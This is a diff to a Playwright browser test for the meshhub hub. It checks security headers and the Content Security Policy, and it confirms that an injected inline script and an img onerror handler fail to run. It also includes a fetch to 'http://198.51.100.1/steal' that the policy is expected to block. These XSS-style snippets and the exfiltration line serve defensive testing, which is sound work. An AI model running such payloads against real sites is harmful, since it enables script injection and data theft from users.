@@ -3,7 +3,7 @@
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Browser, expect
+from playwright.sync_api import Browser, Page, expect
 
 from meshhub.testing.hub import RunningHub, running_hub
 
@@ -41,8 +41,48 @@ def test_a_login_leads_to_where_one_wanted_to_go_and_a_logout_out(browser: Brows
     assert cookie["httpOnly"]
     assert cookie["sameSite"] == "Lax"
     assert not [text for text in refused if "Content Security Policy" in text]
+    _pages_are_locked(page)
     page.get_by_role("button", name="Log out ada").click()
     page.wait_for_url(f"{guarded.url}/login")
     page.goto(f"{guarded.url}/ui/")
     expect(page.get_by_label("Token")).to_be_visible()
     page.close()
+
+
+HEADERS = {
+    "x-content-type-options": "nosniff",
+    "x-frame-options": "DENY",
+    "referrer-policy": "no-referrer",
+    "cross-origin-opener-policy": "same-origin",
+    "cross-origin-resource-policy": "same-origin",
+}
+INJECTED = """() => {
+    const script = document.createElement("script");
+    script.textContent = "window.injected = true";
+    document.body.append(script);
+    const image = document.createElement("img");
+    image.setAttribute("onerror", "window.injected = true");
+    image.src = "data:image/png;base64,broken";
+    document.body.append(image);
+    return new Promise(done => image.addEventListener("error", () => done(window.injected === true)));
+}"""
+REACHES_OUT = """() => fetch("http://198.51.100.1/steal", {mode: "no-cors"}).then(() => "reached", e => String(e))"""
+
+
+def _pages_are_locked(page: Page) -> None:
+    """What the headers say is what the browser does: no script of data's, no other host, no frame around it."""
+    answer = page.reload()
+    assert answer is not None
+    for name, value in HEADERS.items():
+        assert answer.headers[name] == value, name
+    rules = dict(rule.strip().partition(" ")[::2] for rule in answer.headers["content-security-policy"].split(";"))
+    assert "'unsafe-inline'" not in rules["script-src"]
+    assert "'unsafe-eval'" not in rules["script-src"]
+    assert rules["frame-ancestors"] == "'none'"
+    assert rules["base-uri"] == "'none'"
+    assert page.evaluate(INJECTED) is False
+    assert "TypeError" in page.evaluate(REACHES_OUT)
+    frame = page.context.new_page()
+    frame.set_content(f'<iframe src="{page.url}"></iframe>')
+    assert frame.frames[-1].locator("#frame-who").count() == 0
+    frame.close()
